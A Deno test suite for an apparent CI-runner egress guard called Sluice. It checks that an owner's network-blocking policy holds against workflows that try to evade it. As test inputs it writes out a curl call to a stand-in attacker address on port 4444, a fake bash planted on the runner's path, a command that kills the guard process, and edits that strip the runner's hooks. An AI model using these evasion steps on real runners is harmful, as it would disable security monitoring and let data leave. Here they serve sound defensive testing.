/** Jobs that a machine's owner has guarded, whatever their workflows say. */
import assert from "node:assert/strict";
import { SLUICE } from "../action/ground.ts";
import { findStep, type WorkflowStep } from "../action/workflow.ts";
import { lookUntil } from "../lab/wait.ts";
import { SERVICE, ServiceGround } from "./service_ground.ts";

const POLICY = `version: 1
egress: block
allow: [allowed.test]
on: { denied: fail }
`;
const FETCH: WorkflowStep = {
  name: "Fetch",
  run: "curl -sS --max-time 5 https://allowed.test/ > /dev/null",
};
const STEAL: WorkflowStep = {
  name: "Steal",
  run: "curl -sS --max-time 5 http://203.0.113.66:4444/ || true",
};
const FORMER = "# mine\nLANG=C.UTF-8";

Deno.test("all jobs of a hooked runner are guarded by the owner's policy", async () => {
  await using machine = await ServiceGround.up();
  const { ground } = machine;
  const file = `${ground.runner.root}/.env`;
  const look = async () =>
    (await ground.in([
      "sh",
      "-c",
      `stat -c '%a %u %Y %i' ${file}; cat ${file}`,
    ]))
      .stdout;
  await Deno.writeTextFile(file, FORMER, { mode: 0o640 });
  await Deno.chown(file, ground.user, ground.user);
  await Deno.utime(file, 1_700_000_000, 1_700_000_000);
  const before = await look();
  await machine.serveHooked(POLICY);
  const { stdout } = await ground.in([SERVICE, "service", "status"]);
  const { policy, runners } = JSON.parse(stdout);
  assert.equal(policy, "/var/lib/sluice/service/policy.yml");
  const { root } = ground.runner;
  assert.deepEqual(runners, [{ root, isInPlace: true }]);

  const good = await ground.run({ steps: [FETCH] });
  assert.equal(good.conclusion, "success", JSON.stringify(good));
  const begun = findStep(good, "Set up runner");
  assert.match(begun.log, /guards this job \(block\) for the owner/);
  assert.match(findStep(good, "Complete runner").summary, /Sluice/);

  const bad = await ground.run({ steps: [FETCH, STEAL] });
  assert.equal(bad.conclusion, "failure");
  assert.match(findStep(bad, "Complete runner").log, /203\.0\.113\.66/);
  assert.equal(findStep(bad, "Complete runner").exitCode, 1);

  // The action is let into such a job, and loosens nothing.
  const strict = await ground.run({ steps: [guard("block"), FETCH] });
  assert.equal(strict.conclusion, "failure");
  const { log } = findStep(strict, "Pre Guard");
  assert.match(log, /what this step asks for is not applied/);
  assert.equal(findStep(strict, "Post Guard").conclusion, "success");
  assert.equal(findStep(strict, "Complete runner").exitCode, 0);
  const audit = await ground.run({ steps: [guard("audit"), STEAL] });
  assert.equal(audit.conclusion, "failure");
  assert.match(findStep(audit, "Pre Guard").log, /^::warning .*owner/m);
  // What is armed, and not what is asked for.
  assert.deepEqual(findStep(audit, "Guard").outputs, {
    guarded: "true",
    mode: "block",
    journal: "/run/sluice/journal.ndjson",
  });
  assert.equal(findStep(audit, "Post Guard").conclusion, "success");
  assert.match(findStep(audit, "Complete runner").log, /203\.0\.113\.66/);

  // The last guard stays until it has seen that its worker ended.
  const removed = await lookUntil(() => machine.service("remove"), {
    isGood: ({ code }) => code === 0,
  });
  assert.equal(removed.code, 0, removed.stderr);
  assert.equal(await look(), before);
  const open = await ground.run({ steps: [FETCH] });
  assert.equal(open.conclusion, "success");
  assert.equal(open.steps.length, 1);
});

/** A bash that is found first, and says that all is well. */
const FAKE_BASH = `mkdir mine && printf '#!/bin/sh\\nexit 0\\n' > mine/bash
chmod +x mine/bash && echo "$PWD/mine" >> "$GITHUB_PATH"`;
const HOOK = "/var/lib/sluice/service/job-completed.sh";
const KILL_GUARD = `kill -9 "$(grep -o '"pid":[0-9]*' /run/sluice/guard.json |
  head -1 | cut -d: -f2)"`;

Deno.test("no job of a hooked runner is green that was not guarded to its end", async (t) => {
  await using machine = await ServiceGround.up();
  const { ground } = machine;
  await machine.serveHooked(POLICY);

  await t.step("steps that run the last hook", async () => {
    const job = await ground.run({
      steps: [
        { name: "Child", run: `bash -e ${HOOK}` },
        { name: "Exec", if: "always()", run: `exec bash -e ${HOOK}` },
        { ...STEAL, if: "always()" },
      ],
    });
    assert.equal(job.conclusion, "failure");
    for (const name of ["Child", "Exec"]) {
      assert.match(findStep(job, name).log, /does not end/);
    }
    assert.match(findStep(job, "Complete runner").log, /203\.0\.113\.66/);
  });

  await t.step("another bash in the last hook's place", async () => {
    const replace = { name: "Replace", run: FAKE_BASH };
    const job = await ground.run({ steps: [replace, STEAL] });
    assert.equal(job.conclusion, "failure");
    assert.ok(job.isWorkerLost);
  });

  await t.step("a guard that is killed", async () => {
    const before = async () => {
      await ground.in(["sh", "-c", KILL_GUARD]);
    };
    const job = await ground.run({ steps: [{ ...FETCH, before }] });
    assert.equal(job.conclusion, "failure");
    assert.match(findStep(job, "Complete runner").log, /guard was killed/);
  });

  await t.step("a guard that cannot be armed", async () => {
    const start = [SERVICE, "start", "--egress", "audit", "--no-self-test"];
    const other = await ground.in(start, { timeoutMs: 60_000 });
    assert.equal(other.code, 0, other.stderr);
    const job = await ground.run({
      steps: [{
        name: "Late",
        if: "always()",
        run: "sleep 5; touch /tmp/late",
      }],
    });
    await ground.in([SERVICE, "stop"], { timeoutMs: 60_000 });
    assert.ok(job.isWorkerLost);
    assert.equal(job.conclusion, "failure");
    assert.match(findStep(job, "Set up runner").log, /machine is guarded/);
    assert.notEqual((await ground.in(["ls", "/tmp/late"])).code, 0);
  });

  await t.step("a hook whose shell reads something else first", async () => {
    const file = `${ground.runner.root}/.env`;
    const ours = await Deno.readTextFile(file);
    await Deno.writeTextFile(file, `${ours}BASH_ENV=/dev/null\n`);
    const job = await ground.run({ steps: [FETCH] });
    await Deno.writeTextFile(file, ours);
    assert.equal(job.conclusion, "failure");
    assert.match(findStep(job, "Set up runner").log, /runs with BASH_ENV/);
  });

  await t.step(
    "hooks that a job has taken out of the runner's file",
    async () => {
      const forget = `echo > ${ground.runner.root}/.env`;
      const first = await ground.run({
        steps: [{ name: "Forget", run: forget }],
      });
      assert.equal(first.conclusion, "success", JSON.stringify(first));
      const second = await ground.run({
        steps: [{ name: "Wait", run: "sleep 5" }, STEAL],
      });
      assert.equal(second.conclusion, "failure");
      assert.ok(second.isWorkerLost);
      assert.match(machine.said, /its hook had not had it guarded/);
      const { stdout } = await ground.in([SERVICE, "service", "status"]);
      assert.equal(JSON.parse(stdout).runners[0].isInPlace, false);
      const { stderr } = await machine.service("remove");
      assert.match(stderr, /was changed since/);
      const left = await Deno.readTextFile(`${ground.runner.root}/.env`);
      assert.equal(left, "\n");
    },
  );
});

/** The action, by a workflow that would let out more than the owner. */
function guard(egressPolicy: string): WorkflowStep {
  const endpoints = "203.0.113.66:4444";
  return {
    ...{ name: "Guard", uses: SLUICE },
    with: { "egress-policy": egressPolicy, "allowed-endpoints": endpoints },
  };
}
